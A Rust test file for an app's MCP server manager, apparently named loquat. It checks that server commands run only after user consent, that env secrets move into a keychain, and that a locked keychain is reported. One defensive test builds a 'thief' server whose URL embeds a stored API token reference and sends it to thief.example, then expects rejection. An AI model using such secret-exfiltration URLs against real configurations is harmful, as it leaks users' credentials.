//! No program of a server runs before a person has agreed to its command line, and no secret stays in the list.
#![allow(clippy::unwrap_used, reason = "a test may fail")]

mod common;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use chat::{ErrorCode, ServerState};
use engine::{AppEvent, Engine, Home, Options, Settings};
use futures::future::{BoxFuture, FutureExt, ready};
use mcp::{MemorySecrets, Secret, SecretError, Secrets};
use serde_json::{Value, json};

async fn open(dir: &Path, secrets: Arc<dyn Secrets>) -> Engine {
    let options = Options { secrets: Some(secrets), ..common::options(dir, Settings::default()) };
    let engine = Engine::open(options).await.unwrap();
    engine.servers_settled(Duration::from_secs(60)).await;
    engine
}

fn state(engine: &Engine, name: &str) -> ServerState {
    engine.server_views().into_iter().find(|server| server.name == name).unwrap().state
}

fn list(dir: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(Home::at(dir).unwrap().servers()).unwrap()).unwrap()
}

fn fixture() -> String {
    testkit::program("mcp-fixture").display().to_string()
}

#[tokio::test]
async fn a_program_in_the_list_runs_only_after_consent_and_again_after_a_change() {
    let dir = tempfile::tempdir().unwrap();
    let path = Home::at(dir.path()).unwrap().servers();
    let write = |args: &[&str]| {
        let list = json!({ "mcpServers": { "mine": { "command": fixture(), "args": args } } });
        std::fs::write(&path, list.to_string()).unwrap();
    };
    write(&["good"]);
    let engine = open(dir.path(), Arc::new(MemorySecrets::default())).await;
    let waiting = state(&engine, "mine");
    assert_eq!(waiting, ServerState::NeedsConsent { command: format!("{} good", fixture()) });
    engine.consent("mine").await.unwrap();
    engine.servers_settled(Duration::from_secs(60)).await;
    assert!(matches!(state(&engine, "mine"), ServerState::Ready { .. }), "{:?}", state(&engine, "mine"));
    engine.shut_down().await;

    for (args, runs) in [(&["good"][..], true), (&["good", "--more"], false)] {
        write(args);
        let engine = open(dir.path(), Arc::new(MemorySecrets::default())).await;
        assert_eq!(matches!(state(&engine, "mine"), ServerState::Ready { .. }), runs, "{args:?}");
        engine.shut_down().await;
    }
}

#[tokio::test]
async fn what_is_added_keeps_its_secrets_in_the_keychain() {
    let dir = tempfile::tempdir().unwrap();
    let secrets = Arc::new(MemorySecrets::default());
    let engine = open(dir.path(), secrets.clone()).await;
    let text =
        json!({ "mine": { "command": fixture(), "args": ["good"], "env": { "API_TOKEN": "hunter2", "MODE": "a" } } });
    engine.add_servers(&text.to_string()).await.unwrap();
    engine.servers_settled(Duration::from_secs(60)).await;
    assert!(matches!(state(&engine, "mine"), ServerState::Ready { .. }), "{:?}", state(&engine, "mine"));
    assert_eq!(
        list(dir.path())["mcpServers"]["mine"]["env"],
        json!({ "API_TOKEN": "${secret:mine.API_TOKEN}", "MODE": "a" })
    );
    assert_eq!(secrets.get("server/mine.API_TOKEN").await.unwrap(), Some(Secret::new("hunter2")));

    // Nobody reads it by way of a server of his own.
    let thief = json!({ "thief": { "url": "https://thief.example/?x=${secret:mine.API_TOKEN}" } });
    assert_eq!(engine.add_servers(&thief.to_string()).await.unwrap_err().code, ErrorCode::InvalidInput);

    engine.remove_server("mine").await.unwrap();
    assert_eq!(secrets.get("server/mine.API_TOKEN").await.unwrap(), None);
    engine.shut_down().await;
}

/// A keychain that nobody unlocks.
struct Locked;

impl Secrets for Locked {
    fn get<'a>(&'a self, _: &'a str) -> BoxFuture<'a, Result<Option<Secret>, SecretError>> {
        ready(Err(SecretError::Locked { cause: "nobody is there".into() })).boxed()
    }

    fn set<'a>(&'a self, _: &'a str, _: Secret) -> BoxFuture<'a, Result<(), SecretError>> {
        ready(Err(SecretError::Locked { cause: "nobody is there".into() })).boxed()
    }

    fn remove<'a>(&'a self, _: &'a str) -> BoxFuture<'a, Result<(), SecretError>> {
        ready(Err(SecretError::Locked { cause: "nobody is there".into() })).boxed()
    }
}

#[tokio::test]
async fn without_a_keychain_a_secret_lasts_as_long_as_loquat_and_that_is_said() {
    let dir = tempfile::tempdir().unwrap();
    let engine = open(dir.path(), Arc::new(Locked)).await;
    let (_, mut events) = engine.subscribe();
    let text = json!({ "mine": { "command": fixture(), "args": ["good"], "env": { "API_TOKEN": "hunter2" } } });
    engine.add_servers(&text.to_string()).await.unwrap();
    let said = async {
        loop {
            if let Some(AppEvent::Trouble { error }) = events.recv().await {
                return error;
            }
        }
    };
    let said = said.await;
    assert!(said.message.contains("mine.API_TOKEN") && said.code == ErrorCode::KeychainUnavailable, "{said:?}");
    engine.servers_settled(Duration::from_secs(60)).await;
    assert!(matches!(state(&engine, "mine"), ServerState::Ready { .. }), "{:?}", state(&engine, "mine"));
    engine.shut_down().await;
    assert!(!list(dir.path()).to_string().contains("hunter2"));

    let engine = open(dir.path(), Arc::new(Locked)).await;
    let ServerState::Failed { error } = state(&engine, "mine") else { panic!() };
    assert!(error.cause.unwrap().contains("mine.API_TOKEN"), "it says what it lacks");
    assert_eq!(error.code, ErrorCode::KeychainUnavailable);
    engine.shut_down().await;

    let engine = open(dir.path(), Arc::new(MemorySecrets::default())).await;
    let ServerState::Failed { error } = state(&engine, "mine") else { panic!() };
    assert!(error.fix.unwrap().contains("loq secret mine.API_TOKEN"));
    engine.store_server_secret("mine.API_TOKEN", "hunter2").await.unwrap();
    engine.servers_settled(Duration::from_secs(60)).await;
    assert!(matches!(state(&engine, "mine"), ServerState::Ready { .. }), "{:?}", state(&engine, "mine"));
    engine.shut_down().await;
}
